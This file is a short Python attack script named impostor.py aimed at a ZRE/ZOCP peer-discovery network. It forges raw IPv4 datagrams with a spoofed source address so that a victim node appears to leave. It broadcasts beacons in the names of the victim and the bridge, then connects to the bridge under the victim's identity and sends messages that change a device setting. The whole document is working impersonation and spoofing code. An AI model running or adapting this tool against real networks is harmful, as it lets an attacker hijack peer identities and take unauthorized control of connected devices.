"""Says to be others: a present node, and the bridge itself.

    impostor.py VICTIM_UUID VICTIM_ADDRESS BRIDGE_UUID BRIDGE_ENDPOINT OWN_ADDRESS

As the victim it says goodbye from the victim's own address, tells a mailbox of its own, and greets the
bridge, wherever that closes the connection again; then it emits and whispers in the victim's name. As the
bridge it beacons from here. It goes on until it is ended. Needs root, for the address.
"""

import socket
import struct
import sys
import time

import zmq

BEACONS = 5670
NOWHERE = 49999


def beacon(uuid, port):
    return b"ZRE\x01" + uuid + struct.pack(">H", port)


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source, target, content):
    """An IPv4 datagram from whatever address, without a checksum of UDP, which may be left out."""
    udp = struct.pack(">HHHH", BEACONS, BEACONS, 8 + len(content), 0) + content
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, checksum(head + addresses))
    return head + addresses + udp


def string(text):
    return struct.pack("B", len(text)) + text.encode()


def hello(endpoint):
    group = struct.pack(">I", 1) + struct.pack(">I", 4) + b"ZOCP"
    header = struct.pack(">I", 1) + string("X-ZOCP") + struct.pack(">I", 1) + b"1"
    return b"\xaa\xa1\x01\x02\x00\x01" + string(endpoint) + group + b"\x01" + string("lamp") + header


def main():
    victim, victim_at, bridge, bridge_endpoint, own = sys.argv[1:]
    victim, bridge = bytes.fromhex(victim), bytes.fromhex(bridge)
    bridge_at = bridge_endpoint.removeprefix("tcp://").split(":")[0]
    forged = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    context = zmq.Context()
    while True:
        dealer = context.socket(zmq.DEALER)
        dealer.setsockopt(zmq.LINGER, 0)
        dealer.setsockopt(zmq.IDENTITY, b"\x01" + victim)
        dealer.connect(bridge_endpoint)
        dealer.send(hello(f"tcp://{own}:{NOWHERE}"))
        for number in range(2, 40):
            forged.sendto(datagram(victim_at, bridge_at, beacon(victim, 0)), (bridge_at, 0))
            plain.sendto(beacon(victim, NOWHERE), (bridge_at, BEACONS))
            plain.sendto(beacon(bridge, NOWHERE), (bridge_at, BEACONS))
            whisper = b"\xaa\xa1\x02\x02" + struct.pack(">H", number)
            dealer.send_multipart([whisper, b'{"MOD": {"level": {"value": 66}}}'])
            time.sleep(0.1)
        dealer.close()
        print("again", flush=True)


main()
